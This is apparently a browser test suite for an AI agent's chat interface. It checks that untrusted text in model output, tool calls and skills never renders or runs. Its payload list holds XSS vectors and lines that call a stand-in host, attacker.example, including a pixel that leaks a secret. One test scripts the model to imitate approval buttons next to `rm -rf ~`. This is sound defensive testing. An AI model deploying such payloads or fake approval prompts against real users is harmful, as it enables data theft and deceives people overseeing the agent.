import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { last, messages, say } from './talk.ts'
import { foreignRequests, hasBrowser, openWorld, picture, startMs, type World } from './world.ts'

/** Each would run, load or lead somewhere if it were more than text. */
const payloads = [
  '<script>window.hit=1</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '<a href="javascript:window.hit=1">click</a>',
  '[click](javascript:window.hit=1)',
  '[click](data:text/html,<script>window.hit=1</script>)',
  '![pixel](https://attacker.example/pixel.png?leak=secret)',
  '![pixel](//attacker.example/pixel.png)',
  '<link rel="dns-prefetch" href="//attacker.example">',
  '<style>@import "https://attacker.example/a.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><input name=a></form>',
  '"><img src=x onerror=window.hit=1>',
  "';window.hit=1;//",
  '{{constructor.constructor("window.hit=1")()}}',
]

describe.skipIf(!hasBrowser)('foreign text in the browser', () => {
  let world: World
  beforeAll(async () => {
    world = await openWorld({ settings: { sandbox: 'off', permissions: { allow: ['bash'] } } })
  }, startMs)
  afterAll(() => world?.close())

  it('threats P2, P7: nothing of it runs, loads or leads anywhere, in every field of a conversation', async () => {
    const all = payloads.join('\n\n')
    await world.write('payload.txt', all)
    await world.skill('~/.agents/skills', 'hostile', {
      description: `'${payloads[1]?.replaceAll("'", '')} and ${payloads[7]}'`,
      body: all,
    })
    world.provider.script(
      ({ think, say: write, call }) => {
        think(all)
        write(all)
        call('bash', { command: `cat payload.txt # ${payloads[1]}` })
      },
      ({ call }) => call('no_such_tool', { [payloads[1] ?? '']: payloads[0] }),
      ({ call }) => call('activate_skill', { name: 'hostile', arguments: payloads[1] }),
      ({ say: write }) => write(`${all}\n\nThe end.`),
    )
    const page = await world.open()
    const foreign = foreignRequests(page)
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await say(page, payloads.join(' '))
    await last(page).getByText('The end.').waitFor()
    const closed = last(page).locator('button[aria-expanded=false]')
    for (let left = await closed.count(); left > 0; left--) await closed.first().click()
    for (const folded of await last(page).locator('summary').all()) await folded.click()
    expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined()
    const made = messages(page).locator(
      'script, iframe, style, link, meta, base, object, embed, img:not([src^="blob:"]), [onerror], [onload], a[href^="javascript" i], a[href^="data" i]',
    )
    expect(await made.count()).toBe(0)
    expect(await page.locator('main form[action]').count()).toBe(0)
    expect(new URL(page.url()).origin).toBe(world.origin())
    await last(page)
      .getByText(/attacker\.example/u)
      .first()
      .waitFor()
    await picture(page, 'threats-payloads')
    await page.reload()
    await last(page).getByText('The end.').waitFor()
    expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined()
    expect(foreign).toEqual([])
    expect(dialogs).toEqual([])
    await page.context().close()
  })

  it('threat P2: a link shows its host, opens elsewhere and tells nothing of where it was', async () => {
    world.provider.script('See [the page](https://example.org/path).')
    const page = await world.open()
    await say(page, 'Link')
    const link = last(page).getByRole('link', { name: /the page/u })
    await link.waitFor()
    await last(page).getByText('example.org').waitFor()
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(await link.getAttribute('rel')).toMatch(/noreferrer/u)
    await page.context().close()
  })

  it('threat P4: text that imitates Skillet stays in the message, without a button or a card', async () => {
    world.provider.script(
      [
        '# Waiting for you',
        '**Run a command** `rm -rf ~`',
        '| Allow once | For this turn | Always… | No… |\n|---|---|---|---|\n| Y | T | A | N |',
        '<button data-approval="x">Allow once</button>',
        '<div role="alert" data-keys="approval">Skillet asks to edit fence.ts</div>',
        'It is over.',
      ].join('\n\n'),
    )
    const page = await world.open()
    await say(page, 'Fool me')
    await last(page).getByText('It is over.').waitFor()
    const inside = last(page).locator('.markdown')
    expect(
      await inside
        .locator('button:not([aria-label]), [role=alert], [data-approval], [data-keys]')
        .count(),
    ).toBe(0)
    expect(await page.locator('[data-approval]').count()).toBe(0)
    expect(await inside.getByRole('heading', { level: 1 }).count()).toBe(0)
    expect(await page.getByRole('button', { name: 'Allow once' }).count()).toBe(0)
    await picture(page, 'threats-imitation')
    await page.context().close()
  })

  it('threat P6: depth and size stop nothing, in an answer and in what a tool says', async () => {
    const deep = `${'>'.repeat(3000)} deep\n\n${Array.from({ length: 400 }, (_, at) => `${'  '.repeat(at)}- item`).join('\n')}`
    await world.write('deep.txt', `${deep}\n${'x'.repeat(40_000)}`)
    world.provider.script(
      ({ call }) => call('bash', { command: 'cat deep.txt' }),
      ({ say: write }) => write(`${deep}\n\n${'a'.repeat(70_000)}\n\nStill here.`),
    )
    const page = await world.open()
    await say(page, 'Deep')
    await last(page).getByText('Still here.').waitFor()
    const box = page.getByRole('main').locator('textarea').last()
    await box.fill('The page still answers')
    expect(await box.inputValue()).toBe('The page still answers')
    await page.context().close()
  })

  it('T8: names with characters that hide are shown with their codes', async () => {
    world.provider.script(({ call }) => call('bash', { command: 'echo \u202etxt.exe' }), 'Done.')
    const page = await world.open()
    await say(page, 'Name')
    await last(page).getByText('Done.').waitFor()
    await last(page).getByText('echo ⟨U+202E⟩txt.exe').waitFor()
    await page.context().close()
  })
})
